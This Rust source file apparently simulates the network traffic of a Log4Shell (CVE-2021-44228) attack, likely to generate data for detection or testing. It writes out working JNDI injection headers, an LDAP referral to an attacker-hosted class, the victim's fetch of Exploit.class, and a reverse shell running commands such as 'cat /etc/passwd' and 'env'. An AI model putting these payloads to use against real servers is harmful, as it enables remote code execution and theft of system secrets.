//! A server made to call out.

use flow::{Duration, Time};

use super::{Attack, Occasion, Plot, stranger};
use crate::activity::{Activity, Plan};
use crate::content::Content;
use crate::protocol::ber::{integer, nested, octets, sequence, value};
use crate::random::Random;
use crate::scene::Scene;
use crate::tcp::{Connection, Script, Turn};
use crate::wire::{Endpoint, System};

/// The web server called, and calling back.
pub(super) fn plots(attack: Attack, scene: &Scene, occasion: Occasion) -> Vec<Plot> {
    let network = &scene.network;
    let from = Endpoint { system: System::Linux, ..network.outside(stranger(attack, 0)) };
    let activity = exploit((from, network.web.endpoint()), occasion);
    Plot::whole(attack, vec![from.address], vec![network.web.v4.into()], activity)
}

/// Some requests that name a directory outside; the server asks it, fetches what it names and opens a shell (Log4Shell,
/// CVE-2021-44228).
fn exploit((from, web): (Endpoint, Endpoint), occasion: Occasion) -> Activity {
    let Occasion { start, room, mut random } = occasion;
    let trip = from.latency + web.latency;
    let home = from.address;
    let mut plan = Plan::default();
    let mut say = |time: Time, ends, ports, script: Script, random: &mut Random| {
        let connection = Connection { script, ..Connection::new(ends, ports, time, Vec::new()) };
        plan.start(time, connection.activity(random.fork()));
    };
    let mut now = start;
    for header in ["User-Agent", "X-Forwarded-For", "X-Api-Version"] {
        let request = format!(
            "GET /login HTTP/1.1\r\nHost: www.office.example\r\n{header}: ${{jndi:ldap://{home}:1389/Exploit}}\r\nAccept: \
             */*\r\nConnection: close\r\n\r\n"
        );
        let page = Content::Message { head: PAGE.to_vec(), noise: 1_180 };
        let script =
            vec![Turn::ask(Duration::from_micros(200), request), Turn::answer(random.seconds(0.02..0.06), page)];
        say(now, (from, web), (random.within(33_000..60_000), 80), Box::new(script.into_iter()), &mut random);
        now = now + random.seconds(0.4..1.5).min(room / 20);
    }
    // Only the last one is logged by the library.
    let asked = now + trip + random.seconds(0.02..0.08);
    say(asked, (web, from), (random.within(33_000..60_000), 1_389), directory(&home.to_string()), &mut random);
    let fetched = asked + trip * 4 + Duration::from_millis(20);
    let script = vec![
        Turn::ask(
            Duration::from_micros(400),
            format!(
                "GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\nHost: {home}:8888\r\nAccept: text/html, \
                 image/gif, image/jpeg, *; q=.2, */*; q=.2\r\nConnection: keep-alive\r\n\r\n"
            ),
        ),
        Turn::answer(Duration::from_millis(2), Content::Message { head: CLASS.to_vec(), noise: 1_294 }),
    ];
    say(fetched, (web, from), (random.within(33_000..60_000), 8_888), Box::new(script.into_iter()), &mut random);
    let opened = fetched + trip * 4 + Duration::from_millis(90);
    let until = room.mul_f64(0.8).min(Duration::from_secs(900));
    let script = shell(random.fork(), until);
    say(opened, (web, from), (random.within(33_000..60_000), 9_001), script, &mut random);
    plan.activity()
}

/// The directory's answer: not an entry, but where its class is to be fetched (RFC 2713).
fn directory(home: &str) -> Script {
    let quick = Duration::from_millis(1);
    let attribute =
        |name: &str, text: &str| sequence(&[octets(name.as_bytes()), nested(0x31, &[octets(text.as_bytes())])]);
    let attributes = sequence(&[
        attribute("javaClassName", "Exploit"),
        attribute("javaCodeBase", &format!("http://{home}:8888/")),
        attribute("objectClass", "javaNamingReference"),
        attribute("javaFactory", "Exploit"),
    ]);
    let done = |kind: u8, id| sequence(&[integer(id), nested(kind, &[value(10, &[0]), octets(b""), octets(b"")])]);
    let bind = nested(0x60, &[integer(3), octets(b""), value(0x80, b"")]);
    let search = nested(
        0x63,
        &[
            octets(b"Exploit"),
            value(10, &[0]),
            value(10, &[3]),
            integer(0),
            integer(0),
            value(1, &[0]),
            value(0x87, b"objectClass"),
            sequence(&[]),
        ],
    );
    let entry = sequence(&[integer(2), nested(0x64, &[octets(b"Exploit"), attributes])]);
    let script = vec![
        Turn::ask(quick, sequence(&[integer(1), bind])),
        Turn::answer(quick, done(0x61, 1)),
        Turn::ask(quick, sequence(&[integer(2), search])),
        Turn::answer(quick, [entry, done(0x65, 2)].concat()),
        Turn::ask(quick, sequence(&[integer(3), value(0x42, &[])])),
    ];
    Box::new(script.into_iter())
}

/// A shell the wrong way round: whom the server called types, the server answers.
fn shell(mut random: Random, room: Duration) -> Script {
    let hello = Turn::ask(Duration::from_millis(40), "bash: no job control in this shell\nweb@intranet:/opt/app$ ");
    let mut left = room;
    let work = std::iter::from_fn(move || {
        let pause = random.seconds(2.0..25.0).min(room / 8);
        left = left.checked_sub(pause)?;
        let order = Turn::answer(pause, *random.pick(&ORDERS));
        let output = Content::Message { head: b"web ".to_vec(), noise: random.size(400, 1.2, 40_000) };
        Some([order, Turn::ask(random.seconds(0.005..0.3), output)])
    });
    Box::new(std::iter::once(hello).chain(work.flatten()))
}

const PAGE: &[u8] = b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 1180\r\n\r\n";
const CLASS: &[u8] =
    b"HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\nContent-type: application/java-vm\r\n\
Content-Length: 1302\r\n\r\n\xca\xfe\xba\xbe\0\0\0\x34";
const ORDERS: [&str; 6] = ["id\n", "uname -a\n", "cat /etc/passwd\n", "ss -tlnp\n", "ls -la /opt/app\n", "env\n"];
